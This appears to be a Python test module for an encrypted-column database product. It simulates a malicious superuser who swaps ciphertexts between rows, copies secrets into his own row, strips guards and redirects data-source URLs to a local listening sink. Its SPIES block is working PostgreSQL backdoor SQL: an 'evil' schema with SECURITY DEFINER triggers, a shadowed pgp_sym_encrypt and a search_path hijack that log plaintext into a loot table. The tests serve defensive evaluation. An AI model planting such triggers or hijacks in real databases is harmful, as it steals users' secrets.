"""Whoever changes rows, columns and code of the database under an application that reads on: T9 swaps, T12 triggers and
functions, T13 guards taken away, T20 lengths, T21 redirects."""

import contextlib
import socket
import threading

from application import BACKUP, EMAIL, SOURCE, quoted
from attacks_reading import READING, scan, shown
from report import Outcome
from service import DEADLINE_S, wait_until


@contextlib.contextmanager
def changed(world, do, undo):
    """The database with a superuser's change, and as it was again."""
    world.sql(do)
    try:
        yield
    finally:
        world.sql(undo)


def decrypt_failed(world, call):
    """The audit record says that values did not decrypt."""
    return any(one["failed_values"] for one in world.records("DecryptFields", call))


# ---- T9

def swaps(world):
    outcome = Outcome("T9", "ciphertexts are swapped between rows and columns, and copied into a row of the DBA's own")
    _swap_rows(world, outcome)
    _swap_columns(world, outcome)
    _copy_to_own_row(world, outcome)
    if world.defences.controls:
        first, second = world.controls.hidden[:2]
        world.sql(_exchange("pgcrypto_source", "password", "uid", first["uid"], second["uid"]))
        (value,), = world.controls.connection.query(
            f"SELECT {world.controls.decrypts} FROM pgcrypto_source WHERE uid = {quoted(first['uid'])}")
        outcome.control("pgcrypto gives another row's value", value == second["password"])
    return [outcome]


def _exchange(table, column, key, one, other):
    return (f"UPDATE {table} t SET {column} = o.{column} FROM {table} o WHERE (t.{key}, o.{key}) IN "
            f"(({quoted(one)}, {quoted(other)}), ({quoted(other)}, {quoted(one)}))")


def _swap_rows(world, outcome):
    sources = list(world.application.sources)[:2]
    for field, table, column, key, pair in ((EMAIL, "member", "email", "id", (1, 2)),
                                            (SOURCE, "data_source", "password", "uid", sources)):
        swap = _exchange(table, column, key, *pair)
        with changed(world, swap, swap):
            values, call = world.application.read(field, pair)
            outcome.secret_if(any(values.values()), f"{table}.{column} of one row in another")
            outcome.notice(f"the audit log has the failure of {table}.{column}", decrypt_failed(world, call))


def _swap_columns(world, outcome):
    swap = "UPDATE member SET (email, backup) = (backup, email) WHERE id = 1"
    with changed(world, swap, swap):
        for field in (EMAIL, BACKUP):
            values, _ = world.application.read(field, [1])
            outcome.secret_if(any(values.values()), "a value of one column in another")


def _copy_to_own_row(world, outcome):
    """The application shows the DBA what is in his own row."""
    mine, victim = "00000000-0000-4000-8000-00000000d0a0", list(world.application.sources)[3]
    with changed(world, f"INSERT INTO data_source SELECT '{mine}', name, url, login, password FROM data_source "
                 f"WHERE uid = '{victim}'", f"DELETE FROM data_source WHERE uid = '{mine}'"):
        values, call = world.application.read(SOURCE, [mine])
        outcome.secret_if(values[mine], "a secret in the DBA's own row")
        outcome.notice("the audit log has the failure of his row", decrypt_failed(world, call))


# ---- T12

SPIES = """
CREATE SCHEMA evil; GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE TABLE evil.loot (what text);
CREATE FUNCTION evil.keep(text) RETURNS void LANGUAGE sql SECURITY DEFINER AS 'INSERT INTO evil.loot VALUES ($1)';
CREATE FUNCTION evil.spy() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS
  'BEGIN PERFORM evil.keep(NEW::text); RETURN NEW; END';
CREATE FUNCTION evil.same(text, text) RETURNS boolean LANGUAGE plpgsql AS
  'BEGIN PERFORM evil.keep($1 || $2); RETURN $1 OPERATOR(pg_catalog.=) $2; END';
CREATE FUNCTION evil.same(int, int) RETURNS boolean LANGUAGE plpgsql AS
  'BEGIN PERFORM evil.keep($1::text || $2::text); RETURN $1 OPERATOR(pg_catalog.=) $2; END';
CREATE OPERATOR evil.= (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.same);
CREATE OPERATOR evil.= (LEFTARG = int, RIGHTARG = int, FUNCTION = evil.same);
CREATE FUNCTION evil.pgp_sym_encrypt(text, text, text) RETURNS bytea LANGUAGE plpgsql AS
  'BEGIN PERFORM evil.keep($1 || $2); RETURN public.pgp_sym_encrypt($1, $2, $3); END';
CREATE OR REPLACE FUNCTION evil.is_ciphertext(bytea) RETURNS boolean LANGUAGE plpgsql AS
  'BEGIN PERFORM evil.keep($1::text); RETURN true; END';
ALTER TABLE member ADD CONSTRAINT evil CHECK (evil.is_ciphertext(email::bytea)) NOT VALID;
CREATE TRIGGER spy BEFORE INSERT OR UPDATE ON data_source FOR EACH ROW EXECUTE FUNCTION evil.spy();
CREATE TRIGGER spy BEFORE INSERT OR UPDATE ON member FOR EACH ROW EXECUTE FUNCTION evil.spy();
CREATE TRIGGER spy BEFORE INSERT OR UPDATE ON plain_source FOR EACH ROW EXECUTE FUNCTION evil.spy();
ALTER ROLE app SET search_path = evil, public, pg_catalog;
"""
NO_SPIES = """
ALTER ROLE app RESET search_path; ALTER TABLE member DROP CONSTRAINT evil;
DROP TRIGGER spy ON data_source; DROP TRIGGER spy ON member; DROP TRIGGER spy ON plain_source;
"""


def code_in_the_database(world):
    outcome = Outcome("T12", "triggers, replaced functions and operators keep what passes them; tokens are moved so "
                      "that a search finds another row")
    with changed(world, SPIES, NO_SPIES):
        for part in (world.application, world.controls):
            part.connect_again()
        world.application.add_source()
        world.application.find(world.application.members[world.application.add_member()]["email"])
        if world.defences.controls:
            world.controls.add_sources(world.application)
            world.controls.find(world.controls.members[1]["email"])
        scan(world, outcome, "what triggers, functions and operators kept", shown(world, "SELECT what FROM evil.loot"),
             ("plaintext", "pgcrypto"))
    for part in (world.application, world.controls):
        part.connect_again()
    _lie(world, outcome)
    return [outcome]


def _lie(world, outcome):
    """Row 2 is found under the address of row 1."""
    email = world.application.members[1]["email"]
    tokens = dict(world.sql("SELECT id, email_exact FROM member WHERE id IN (1, 2)"))
    with changed(world, f"UPDATE member SET email_exact = {tokens['1']} WHERE id = 2",
                 f"UPDATE member SET email_exact = {tokens['2']} WHERE id = 2"):
        found, call = world.application.find(email)
        outcome.secret_if(set(found) != {1}, "another member's address for the one that was searched for")
        believed, _ = world.application.find(email, match=False)
        outcome.control("who does not compare is shown the other's", 2 in believed)
        outcome.notice("the audit log counts what did not match",
                       any(one["unmatched_values"] for one in world.records("DecryptFields", call)))


# ---- T13

UNGUARD = """
SECURITY LABEL FOR coffer ON COLUMN member.email IS NULL; SECURITY LABEL FOR coffer ON COLUMN member.note IS NULL;
ALTER TABLE member ALTER email TYPE bytea USING email::bytea;
ALTER TABLE member DROP CONSTRAINT IF EXISTS note_is_ciphertext;
"""
GUARD = """
ALTER TABLE member ALTER email TYPE coffer.ciphertext; SELECT coffer.protect('member', 'note');
SECURITY LABEL FOR coffer ON COLUMN member.email IS 'field=dash.member.email';
SECURITY LABEL FOR coffer ON COLUMN member.note IS 'field=dash.member.note';
"""


def guards_taken_away(world):
    outcome = Outcome("T13", "labels, CHECK and type are taken away, then the application writes on")
    before = world.checked()
    with changed(world, UNGUARD, GUARD if world.defences.ciphertext_only else ""):
        new = [world.application.add_member() for _ in range(5)]
        scan(world, outcome, "the unguarded table", shown(world, "SELECT m::text FROM member m"), ())
        outcome.control("what was written then decrypts", None not in world.application.read(EMAIL, new)[0].values())
        world.sql(f"UPDATE member SET note = {quoted(world.plain.value())}::text::bytea WHERE id = {new[0]}")
        written = shown(world, f"SELECT convert_from(note, 'UTF8') FROM member WHERE id = {new[0]}")
        outcome.control("plaintext goes in", world.searcher.find_in(written))
        drift = world.checked() - before
        outcome.notice("`coffer db check` finds it", {("label", "member.email"), ("check-missing", "member.note"),
                                                      ("plaintext", "member.note")} <= drift)
        world.sql(f"DELETE FROM member WHERE id IN ({', '.join(map(str, new))})")
    for number in new:
        del world.application.members[number]
    return [outcome]


# ---- T20

def lengths(world):
    outcome = Outcome("T20", "lengths of ciphertexts are compared with what they were made of",
                      silent=READING, residual="secrets to 32 bytes, other values to the byte")
    values = [world.secret.value()[:length] for length in range(1, 31)]
    sources = [{**world.application.new_source(world.secret), "password": value} for value in values]
    members = [{"id": 10**8 + number, "email": value} for number, value in enumerate(values)]
    padded = {len(row["password"]) for row in world.service.encrypt(*SOURCE, sources, "--ciphertext", "hex")}
    exact = {len(row["email"]) for row in world.service.encrypt(*EMAIL, members, "--ciphertext", "hex")}
    outcome.secret_if(len(padded) != 1, "the length of a secret below 31 bytes")
    outcome.control("each length is seen where there is no padding", len(exact) == len(values))
    return [outcome]


# ---- T21

class Sink(threading.Thread):
    """Listens for whatever an application brings."""

    def __init__(self):
        super().__init__(daemon=True)
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.listener.settimeout(DEADLINE_S)
        self.url = f"http://127.0.0.1:{self.listener.getsockname()[1]}/"
        self.received = []
        self.start()

    def run(self):
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self.listener.accept()
                connection.settimeout(DEADLINE_S)
                with connection:
                    self.received.append(connection.makefile("rb").read())

    def close(self):
        """Everything that was sent before has been received."""
        with socket.create_connection(self.listener.getsockname(), DEADLINE_S):
            pass
        wait_until(lambda: self.received and self.received[-1] == b"", "the sink has heard it all")
        self.listener.close()


def redirects(world):
    outcome = Outcome("T21", "the URL, or the login, beside a password is edited to a listening sink of the DBA's, and "
                      "the application goes there")
    sink = Sink()
    uid = list(world.application.sources)[5]
    for column in ("url", "login"):
        (old,), = world.sql(f"SELECT {column} FROM data_source WHERE uid = '{uid}'")
        with changed(world, f"UPDATE data_source SET {column} = '{sink.url}' WHERE uid = '{uid}'",
                     f"UPDATE data_source SET {column} = '{old}' WHERE uid = '{uid}'"):
            call = world.application.use_source(uid)
            outcome.notice(f"the audit log has the failure with another {column}", decrypt_failed(world, call))
    if world.defences.controls:
        redirected = world.controls.hidden[5]["uid"]
        world.sql(f"UPDATE pgcrypto_source SET url = '{sink.url}' WHERE uid = '{redirected}'")
        world.controls.use_source(redirected)
    sink.close()
    scan(world, outcome, "the sink", sink.received, ("pgcrypto",))
    return [outcome]
